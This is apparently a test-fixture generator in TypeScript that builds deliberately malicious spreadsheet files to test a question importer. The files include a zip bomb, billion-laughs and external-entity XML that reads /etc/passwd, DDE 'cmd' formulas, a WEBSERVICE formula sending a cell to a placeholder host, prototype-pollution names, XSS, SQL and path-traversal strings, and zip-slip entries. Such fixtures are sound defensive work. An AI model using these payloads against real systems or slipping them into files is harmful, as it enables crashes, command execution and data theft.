/**
 * Workbooks meant to break an importer, each under the name that its expected outcome has in
 * tests/fixtures/question-files/hostile/expected.json. Harmless: no address resolves, no command runs.
 */
import { constants, deflateRawSync } from 'node:zlib';
import {
  type BookCell,
  escapeXml,
  makeWorkbook,
  makeZip,
  type Parts,
  packEntry,
  packParts,
  workbookParts,
} from './make-workbook.ts';

export const columns = [
  'Questions',
  'OptionOne',
  'OptionTwo',
  'OptionThree',
  'OptionFour',
  'CorrectAnswer',
  'Weightage',
  'Negative',
  'Type',
];
const goodRow = (i: number, type = 'Aptitude'): BookCell[] => [
  `Good question ${i}: ${i} + 1 = ?`,
  `${i}`,
  `${i + 1}`,
  `${i + 2}`,
  `${i + 3}`,
  `${i + 1}`,
  1,
  0.25,
  type,
];
const basicRows = () => [columns, goodRow(1), goodRow(2)];
const basic = (rows: BookCell[][] = basicRows()) => workbookParts([{ name: 'Questions', rows }]);
const sheet1 = 'xl/worksheets/sheet1.xml';

function edit(parts: Parts, name: string, change: (xml: string) => string): Parts {
  return parts.set(name, change(parts.get(name) ?? ''));
}

/** Adds shared texts, which cells name by number: the part that holds them, and the workbook's relation to it. */
export function addSharedTexts(parts: Parts, xml: string): Parts {
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings';
  const told = `<Relationship Id="rIdT" Type="${type}" Target="sharedStrings.xml"/></`;
  parts.set('xl/sharedStrings.xml', xml);
  return edit(parts, 'xl/_rels/workbook.xml.rels', (relations) => relations.replace('</', told));
}

/** Each block ends with a full flush, so the same packed block can be repeated a thousand times. */
function bomb(): Uint8Array {
  const [before = '', after = ''] = (basic().get(sheet1) ?? '').split('<row r="3"');
  const open = (text: string | Uint8Array) =>
    deflateRawSync(text, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const mebibyte = open(Buffer.alloc(1 << 20, ' '));
  const blocks = Array.from({ length: 1024 }, () => mebibyte);
  const packed = Buffer.concat([open(before), ...blocks, deflateRawSync(`<row r="3"${after}`)]);
  const others = [...basic()]
    .filter(([name]) => name !== sheet1)
    .map(([name, content]) => packEntry(name, content));
  return makeZip([...others, { name: sheet1, packed, size: 4096, sum: 0 }]);
}

export function manyRows(count: number): Uint8Array {
  const types = ['Aptitude', 'Reasoning', 'English', 'Domain'];
  const parts = basic();
  const rows = Array.from({ length: count }, (_, at) => {
    const texts = [
      `Question ${at + 1}: which is prime?`,
      'twelve',
      'thirteen',
      'fourteen',
      'fifteen',
      'thirteen',
    ].map((text) => `<c t="inlineStr"><is><t>${text}</t></is></c>`);
    return `<row r="${at + 2}">${texts.join('')}<c><v>1</v></c><c><v>0.25</v></c><c t="inlineStr"><is><t>${types[at % 4]}</t></is></c></row>`;
  });
  edit(parts, sheet1, (xml) =>
    xml.replace(/<row r="2">[\s\S]*(?=<\/sheetData>)/, () => rows.join('')),
  );
  return makeZip([...parts].map(([name, content]) => packEntry(name, content, 1)));
}

function withDtd(dtd: string, text: string): Uint8Array {
  return packParts(
    edit(basic(), sheet1, (xml) =>
      xml
        .replace('<worksheet ', `<!DOCTYPE worksheet [${dtd}]><worksheet `)
        .replace('Good question 1', text),
    ),
  );
}

function billionLaughs(): Uint8Array {
  const names = 'abcdefghij'.split('');
  const entities = names.map(
    (name, at) =>
      `<!ENTITY ${name} "${at === 0 ? 'lol'.repeat(10) : `&${names[at - 1]};`.repeat(10)}">`,
  );
  return withDtd(entities.join(''), '&j;');
}

const formula = (text: string, value: string): BookCell => ({
  xml: `<c r="{ref}" t="str"><f>${escapeXml(text)}</f><v>${escapeXml(value)}</v></c>`,
});

function links(): Uint8Array {
  const row = [
    'See',
    formula("cmd|'/C calc'!A0", '1'),
    formula('WEBSERVICE("http://example.invalid/?"&A1)', '2'),
    formula('HYPERLINK("http://example.invalid/","click")', 'click'),
    formula("'[1]Sheet1'!A1", '4'),
    'click',
    1,
    0,
    'Aptitude',
  ];
  const parts = basic([columns, row, goodRow(2)]);
  parts.set(
    'xl/externalLinks/externalLink1.xml',
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
  );
  edit(parts, 'xl/workbook.xml', (xml) =>
    xml.replace(
      '</workbook>',
      '<externalReferences><externalReference r:id="rId90"/></externalReferences></workbook>',
    ),
  );
  edit(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
    xml.replace(
      '</Relationships>',
      '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    ),
  );
  return packParts(parts);
}

export const poisonNames = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
];

function poisoned(): Uint8Array {
  const rows = [
    columns,
    goodRow(1),
    goodRow(2, '__proto__'),
    goodRow(3, 'constructor'),
    goodRow(4, 'toString'),
  ];
  const named = poisonNames.map((name) => ({
    name,
    rows: [
      [...columns, '__proto__', 'constructor', 'isAdmin'],
      [...goodRow(1, name), '{"isAdmin":true}', 'x', true],
    ],
  }));
  return makeWorkbook([...named, { name: 'Questions', rows }]);
}

export const nastyTexts = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ';=1+1',
  '|=1+1',
  '\uff1d1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'; DROP TABLE questions;--",
  '{{7*7}}$' + '{7*7}<%= 7*7 %>',
  '%s%n%x',
  '../../../../etc/passwd',
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  '<style>*{display:none}</style>',
  '</script><script>alert(1)</script>',
  '<iframe src=//example.invalid>',
  '&lt;b&gt; &amp;amp; &#x41;',
  '\\u003cscript\\u003e',
  '$x^2$ \\input{/etc/passwd} \\href{javascript:alert(1)}{x}',
];

function injection(): Uint8Array {
  const rows: BookCell[][] = nastyTexts.map((text, at) => [
    text,
    text,
    '-5',
    '+91',
    '@home',
    text,
    1,
    0.25,
    at % 3 === 0 ? text : 'Domain',
  ]);
  for (const text of ['-5', '-itis', '+3', '=', '@'])
    rows.push([`Legal text beginning with ${text}`, text, 'x', 'y', 'z', text, 1, 0.25, 'Domain']);
  return makeWorkbook([{ name: 'Questions', rows: [columns, ...rows] }]);
}

function macroNamed(): Uint8Array {
  const parts = edit(basic(), '[Content_Types].xml', (xml) =>
    xml.replace(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
      'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    ),
  );
  return packParts(parts.set('xl/vbaProject.bin', `\xd0\xcf${'\0'.repeat(2040)}`));
}

function brokenReferences(): Uint8Array {
  const missing = { xml: '<c r="{ref}" t="s"><v>99999</v></c>' };
  const strange = [
    '<c r="{ref}"><v>NaN</v></c>',
    '<c r="{ref}"><v>1e999</v></c>',
    '<c r="{ref}"><v></v></c>',
    '<c r="{ref}" t="zz"><v>1</v></c>',
  ].map((xml) => ({ xml }));
  const parts = basic([
    columns,
    goodRow(1),
    [missing, ...goodRow(2).slice(1)],
    ['NaN and infinity', ...strange, 'NaN', { xml: '<c r="{ref}"><v>-1e999</v></c>' }, 0, 'X'],
    goodRow(4),
  ]);
  const text = (ref: string) => `<c r="${ref}" t="inlineStr"><is><t>far</t></is></c>`;
  const far = `<row r="99999999999">${text('A99999999999')}</row><row r="0"><c r="A0"><v>1</v></c></row><row r="2">${text('A2')}</row><row r="7">${text('ZZZZZZZ7')}</row>`;
  return packParts(edit(parts, sheet1, (xml) => xml.replace('</sheetData>', `${far}</sheetData>`)));
}

function slipAndDuplicate(): Uint8Array {
  const slips = ['../../evil.txt', '/tmp/evil_abs.txt', '..\\..\\evil_win.txt'].map((name) =>
    packEntry(name, 'x'),
  );
  const again = packEntry(sheet1, basic([columns, goodRow(9)]).get(sheet1) ?? '');
  return makeZip([
    ...[...basic()].map(([name, content]) => packEntry(name, content)),
    ...slips,
    again,
  ]);
}

const one = (rows: BookCell[][]) => makeWorkbook([{ name: 'S', rows }]);

/** Name of the file → how to make it. */
export const hostileSheets: Record<string, () => Uint8Array> = {
  'bomb_1gib_spaces.xlsx': bomb,
  'rows_200000.xlsx': () => manyRows(200_000),
  'xml_billion_laughs.xlsx': billionLaughs,
  'xml_external_entity.xlsx': () =>
    withDtd(
      '<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://127.0.0.1:9/x">',
      '&x;&y;',
    ),
  'links_dde_external.xlsx': links,
  'names_prototype.xlsx': poisoned,
  'cells_injection.xlsx': injection,
  'png_renamed.xlsx': () =>
    Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
      'base64',
    ),
  'empty.xlsx': () => new Uint8Array(),
  'one_byte.xls': () => Uint8Array.of(0xd0),
  'truncated.xlsx': () => injection().slice(0, 2600),
  'text_renamed.xlsx': () => Buffer.from('Questions,OptionOne,OptionTwo\nnot a workbook,1,2\n'),
  'no_workbook_part.xlsx': () =>
    makeZip([
      packEntry('hello.txt', 'just a zip'),
      packEntry(
        '[Content_Types].xml',
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      ),
    ]),
  'zip_slip_and_duplicate.xlsx': slipAndDuplicate,
  'macro_named.xlsx': macroNamed,
  'broken_references.xlsx': brokenReferences,
  'header_only.xlsx': () => one([columns]),
  'no_header.xlsx': () => one([goodRow(1), goodRow(2)]),
  'duplicate_header.xlsx': () =>
    one([
      [...columns.slice(0, 5), 'OptionFour', ...columns.slice(5)],
      [...goodRow(1).slice(0, 5), 'other', ...goodRow(1).slice(5)],
    ]),
  'missing_column.xlsx': () =>
    one([
      [...columns.slice(0, 5), ...columns.slice(6)],
      [...goodRow(1).slice(0, 5), ...goodRow(1).slice(6)],
    ]),
};
